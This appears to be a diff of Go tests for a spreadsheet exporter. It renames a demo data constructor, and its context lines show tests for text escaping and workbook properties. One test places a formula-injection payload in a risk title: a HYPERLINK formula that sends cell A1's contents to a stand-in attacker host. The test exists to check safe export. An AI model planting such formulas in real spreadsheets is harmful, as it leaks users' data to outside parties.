@@ -82,7 +82,7 @@ func renderWorkbook(t *testing.T, d *model.Document) *excelize.File {
 }
 
 func TestWorkbookReopens(t *testing.T) {
-	d := model.Demo(testNow)
+	d := model.DemoAnswers(testNow)
 	const formula = `=HYPERLINK("http://attacker.example/?q="&A1,"Open")`
 	d.Flows[0].Failure.Risks[0].Title = formula
 	f := renderWorkbook(t, d)
@@ -155,7 +155,7 @@ func TestWorkbookKeepsTypedText(t *testing.T) {
 		"_x0041_ stays as typed", "_x005F_x0041_ too", "_x005F_", "_x0041_x0042_ overlap", "_x004G_ is no escape", "ends in _x00", " leading and trailing space ",
 		"line one\nline two", `quotes " and ' and <b>&amp;</b>`, "astral 𝄞 and emoji 🙂", "\ttab first",
 	}
-	d := model.Demo(testNow)
+	d := model.DemoAnswers(testNow)
 	for i, title := range titles {
 		d.Flows[i%len(d.Flows)].Failure.Risks = append(d.Flows[i%len(d.Flows)].Failure.Risks, model.Risk{ID: model.NewIDAt(testNow, uint64(900+i)), Title: title, Impact: 5, Likelihood: 5})
 	}
@@ -181,7 +181,7 @@ func TestWorkbookKeepsTypedText(t *testing.T) {
 // header on every page, ids stay on one line, and the same session gives
 // the same bytes however often it is written.
 func TestWorkbookPropertiesAndPrinting(t *testing.T) {
-	d := model.Demo(testNow)
+	d := model.DemoAnswers(testNow)
 	d.Session.Facilitator = "Ana Müller"
 	d.Session.CreatedAt, d.Session.UpdatedAt = "2026-03-02T09:00:00Z", "2026-03-04T17:30:00Z"
 	e := Export(d, ExportOptions{Now: testNow, Firm: &Firm{Name: "Northwind Advisory"}})
